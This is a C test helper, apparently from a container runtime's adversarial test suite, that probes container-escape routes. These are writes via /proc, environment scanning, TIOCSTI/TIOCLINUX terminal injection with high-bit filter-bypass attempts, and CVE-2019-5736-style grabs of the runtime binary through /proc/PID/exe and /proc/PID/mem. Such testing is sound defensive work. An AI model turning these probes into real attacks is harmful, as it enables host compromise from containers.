/* Attacks on the host from inside a container (tests/adversarial/
 * floor_host.bats): writes through /proc/<pid>/root, reads of other
 * processes' /proc entries, TIOCSTI on a shared terminal, and the
 * CVE-2019-5736 family (the runtime's binary or memory reached through
 * /proc/<pid>/exe and /proc/<pid>/mem). Built static and copied into the
 * container's rootfs. Every line it prints is a finding for the test to
 * judge; it never writes a byte through a descriptor it should not have
 * got, so a hole shows as a line, not as a corrupted host.
 *
 *   host_attack write PATH TEXT      create PATH, write TEXT: "write PATH ok|errno=E"
 *   host_attack read PATH...         "read PATH bytes=N" (at most 64 KiB) or "errno=E"
 *   host_attack scan MARKER|@FILE    "found PID FILE" for every /proc/PID/{cmdline,environ}
 *                                    holding MARKER (or FILE's text, so that our
 *                                    own command line does not), then "scanned N"
 *   host_attack tiocsti FD TEXT      ioctl(FD, TIOCSTI) per byte, plain and with
 *                                    0xdeadbeef in the request's high 32 bits, and
 *                                    TIOCLINUX paste: "NAME rc=R errno=E" per call
 *   host_attack tiocsti-own TEXT     the same on a pty of its own made its controlling
 *                                    terminal, where the kernel alone would allow it;
 *                                    then "queued N" (bytes in the slave's input queue)
 *   host_attack exe STOPFILE         until STOPFILE exists, try every other process's
 *                                    /proc/PID/exe (O_WRONLY; O_PATH then reopened
 *                                    O_WRONLY through /proc/self/fd) and /proc/PID/mem
 *                                    (O_RDWR); prints "W KIND pid=P dev=D ino=I" for each
 *                                    write-capable descriptor it got (once per KIND and
 *                                    executable; "unknown" if it cannot tell whose),
 *                                    "seen dev=D ino=I" for each executable it could
 *                                    name, and a summary ("stat KIND errno=0" counts
 *                                    opens of the memory of a process already gone)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define HIGH_BITS 0xdeadbeef00000000ULL
#define TIOCL_PASTESEL 3

static int do_write(const char *path, const char *text)
{
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text)) {
                printf("write %s errno=%d\n", path, errno);
                if (fd >= 0)
                        close(fd);
                return 0;
        }
        close(fd);
        printf("write %s ok\n", path);
        return 0;
}

static int do_read(int argc, char **argv)
{
        static char buf[65536];
        for (int i = 0; i < argc; i++) {
                int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
                ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
                if (n < 0)
                        printf("read %s errno=%d\n", argv[i], errno);
                else
                        printf("read %s bytes=%zd\n", argv[i], n);
                if (fd >= 0)
                        close(fd);
        }
        return 0;
}

static int is_pid(const char *name)
{
        if (*name == '\0')
                return 0;
        for (; *name; name++) {
                if (*name < '0' || *name > '9')
                        return 0;
        }
        return 1;
}

/* memmem over a whole /proc file: cmdline and environ are NUL-separated. */
static int file_holds(const char *path, const char *marker)
{
        static char buf[1 << 20];
        size_t len = 0;
        ssize_t n;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        while (len < sizeof(buf) && (n = read(fd, buf + len, sizeof(buf) - len)) > 0)
                len += (size_t)n;
        close(fd);
        return memmem(buf, len, marker, strlen(marker)) != NULL;
}

static int do_scan(const char *marker)
{
        static char text[256];
        if (marker[0] == '@') {
                int fd = open(marker + 1, O_RDONLY | O_CLOEXEC);
                ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
                if (n <= 0) {
                        printf("scan %s errno=%d\n", marker, errno);
                        return 1;
                }
                close(fd);
                marker = text;
        }
        static const char *const files[] = { "cmdline", "environ" };
        DIR *d = opendir("/proc");
        struct dirent *e;
        int n = 0;
        char path[300];

        if (d == NULL) {
                printf("scan errno=%d\n", errno);
                return 0;
        }
        while ((e = readdir(d)) != NULL) {
                if (!is_pid(e->d_name))
                        continue;
                n++;
                for (int i = 0; i < 2; i++) {
                        snprintf(path, sizeof(path), "/proc/%s/%s", e->d_name, files[i]);
                        if (file_holds(path, marker))
                                printf("found %s %s\n", e->d_name, files[i]);
                }
        }
        closedir(d);
        printf("scanned %d\n", n);
        return 0;
}

static void report(const char *name, long rc)
{
        printf("%s rc=%ld errno=%d\n", name, rc, rc < 0 ? errno : 0);
        fflush(stdout);
}

/* The request goes through the raw syscall so that its high bits reach the
 * kernel (and the filter) as given; the kernel itself reads only the low 32. */
static void stuff(int fd, const char *text)
{
        for (const char *p = text; *p; p++) {
                report("tiocsti", syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI, p));
                report("tiocsti-high", syscall(SYS_ioctl, fd, HIGH_BITS | TIOCSTI, p));
        }
        char sub = TIOCL_PASTESEL;
        report("tioclinux", syscall(SYS_ioctl, fd, (unsigned long)TIOCLINUX, &sub));
        report("tioclinux-high", syscall(SYS_ioctl, fd, HIGH_BITS | TIOCLINUX, &sub));
}

static int do_tiocsti_own(const char *text)
{
        int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) {
                printf("ptmx errno=%d\n", errno);
                return 1;
        }
        char *name = ptsname(master);
        fflush(stdout);
        pid_t pid = fork();
        if (pid < 0) {
                printf("fork errno=%d\n", errno);
                return 1;
        }
        if (pid == 0) {
                /* A session of our own whose controlling terminal is the new
                 * pty: the kernel lets a process stuff its own terminal. */
                if (setsid() < 0) {
                        report("setsid", -1);
                        _exit(1);
                }
                int slave = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
                if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0) {
                        report("ctty", -1);
                        _exit(1);
                }
                report("ctty", 0);
                /* Raw: every pushed byte counts in FIONREAD, not only lines. */
                struct termios t;
                if (tcgetattr(slave, &t) == 0) {
                        cfmakeraw(&t);
                        tcsetattr(slave, TCSANOW, &t);
                }
                stuff(slave, text);
                int queued = -1;
                ioctl(slave, FIONREAD, &queued);
                printf("queued %d\n", queued);
                fflush(stdout);
                _exit(0);
        }
        int st;
        waitpid(pid, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

/* --- the CVE-2019-5736 family ---------------------------------------- */

#define MAX_KEPT 512

struct kept {
        int fd;
        dev_t dev;
        ino_t ino;
        int done;
};

static struct kept kept[MAX_KEPT];
static int n_kept;
static struct {
        dev_t dev;
        ino_t ino;
} seen[MAX_KEPT];
static int n_seen;
static long tries, errs[4][200];
static const char *const kinds[4] = { "exe-wronly", "exe-path", "reopen-wronly", "mem-rdwr" };

static void count(int kind, int err)
{
        errs[kind][err >= 0 && err < 200 ? err : 0]++;
}

/* Each (kind, executable) once: the container's own processes are fair
 * game and would otherwise fill the log. */
static struct {
        const char *kind;
        dev_t dev;
        ino_t ino;
} printed[MAX_KEPT];
static int n_printed;

static void found(const char *kind, const char *pid, int fd)
{
        struct stat st;
        if (fstat(fd, &st) < 0)
                memset(&st, 0, sizeof(st));
        for (int i = 0; i < n_printed; i++) {
                if (printed[i].kind == kind && printed[i].dev == st.st_dev &&
                    printed[i].ino == st.st_ino)
                        return;
        }
        if (n_printed < MAX_KEPT) {
                printed[n_printed].kind = kind;
                printed[n_printed].dev = st.st_dev;
                printed[n_printed].ino = st.st_ino;
                n_printed++;
        }
        printf("W %s pid=%s dev=%lu ino=%lu\n", kind, pid, (unsigned long)st.st_dev,
               (unsigned long)st.st_ino);
        fflush(stdout);
}

static void note_seen(int fd)
{
        struct stat st;
        if (fstat(fd, &st) < 0)
                return;
        for (int i = 0; i < n_seen; i++) {
                if (seen[i].dev == st.st_dev && seen[i].ino == st.st_ino)
                        return;
        }
        if (n_seen < MAX_KEPT) {
                seen[n_seen].dev = st.st_dev;
                seen[n_seen].ino = st.st_ino;
                n_seen++;
        }
        printf("seen dev=%lu ino=%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        fflush(stdout);
}

/* Keep one O_PATH descriptor per executable: the binary may become writable
 * once the process that ran it is gone (no more ETXTBSY). */
static int keep(int fd)
{
        struct stat st;
        if (fstat(fd, &st) < 0)
                return 0;
        for (int i = 0; i < n_kept; i++) {
                if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino)
                        return 0;
        }
        if (n_kept == MAX_KEPT)
                return 0;
        kept[n_kept].fd = fd;
        kept[n_kept].dev = st.st_dev;
        kept[n_kept].ino = st.st_ino;
        kept[n_kept].done = 0;
        n_kept++;
        return 1;
}

static int reopen_wronly(int fd)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        return open(path, O_WRONLY | O_CLOEXEC);
}

static void attack_pid(const char *pid)
{
        char path[300];
        int fd, w;

        tries++;
        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
                found("exe-wronly", pid, fd);
                close(fd);
        } else {
                count(0, errno);
        }

        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0) {
                note_seen(fd);
                w = reopen_wronly(fd);
                if (w >= 0) {
                        found("reopen-wronly", pid, w);
                        close(w);
                } else {
                        count(2, errno);
                }
                if (!keep(fd))
                        close(fd);
        } else {
                count(1, errno);
        }

        snprintf(path, sizeof(path), "/proc/%s/mem", pid);
        fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd >= 0) {
                /* Whose memory: the executable the process runs now. */
                snprintf(path, sizeof(path), "/proc/%s/exe", pid);
                int exe = open(path, O_PATH | O_CLOEXEC);
                if (exe >= 0) {
                        found("mem-rdwr", pid, exe);
                        close(exe);
                } else {
                        /* A process that has exited has no memory left: the
                         * open succeeds on nothing and reads end at once.
                         * Address 0 is never mapped: a real one says EIO. */
                        int exe_errno = errno;
                        char c;
                        ssize_t n = pread(fd, &c, 1, 0);
                        if (n == 0) {
                                count(3, 0);
                        } else {
                                printf("W mem-rdwr pid=%s unknown exe-errno=%d read=%zd errno=%d\n",
                                       pid, exe_errno, n, n < 0 ? errno : 0);
                                fflush(stdout);
                        }
                }
                close(fd);
        } else {
                count(3, errno);
        }
}

static int do_exe(const char *stopfile)
{
        char self[32];
        long rounds = 0;

        snprintf(self, sizeof(self), "%d", getpid());
        printf("attacking\n");
        fflush(stdout);
        while (access(stopfile, F_OK) < 0) {
                DIR *d = opendir("/proc");
                struct dirent *e;
                if (d == NULL)
                        return 1;
                while ((e = readdir(d)) != NULL) {
                        if (is_pid(e->d_name) && strcmp(e->d_name, self) != 0)
                                attack_pid(e->d_name);
                }
                closedir(d);
                for (int i = 0; i < n_kept; i++) {
                        if (kept[i].done)
                                continue;
                        int w = reopen_wronly(kept[i].fd);
                        if (w >= 0) {
                                found("reopen-later", "-", w);
                                close(w);
                                kept[i].done = 1;
                        }
                }
                rounds++;
                sched_yield();
        }
        /* Let the exec that made STOPFILE end before we, the namespace's
         * init, take its processes down with us. */
        usleep(500 * 1000);
        printf("rounds %ld tries %ld kept %d\n", rounds, tries, n_kept);
        for (int k = 0; k < 4; k++) {
                for (int e = 0; e < 200; e++) {
                        if (errs[k][e])
                                printf("stat %s errno=%d n=%ld\n", kinds[k], e, errs[k][e]);
                }
        }
        return 0;
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 4 && strcmp(argv[1], "write") == 0)
                return do_write(argv[2], argv[3]);
        if (argc >= 3 && strcmp(argv[1], "read") == 0)
                return do_read(argc - 2, argv + 2);
        if (argc == 3 && strcmp(argv[1], "scan") == 0)
                return do_scan(argv[2]);
        if (argc == 4 && strcmp(argv[1], "tiocsti") == 0) {
                stuff(atoi(argv[2]), argv[3]);
                return 0;
        }
        if (argc == 3 && strcmp(argv[1], "tiocsti-own") == 0)
                return do_tiocsti_own(argv[2]);
        if (argc == 3 && strcmp(argv[1], "exe") == 0)
                return do_exe(argv[2]);
        fprintf(stderr, "usage: see tests/helpers/host_attack.c\n");
        return 2;
}
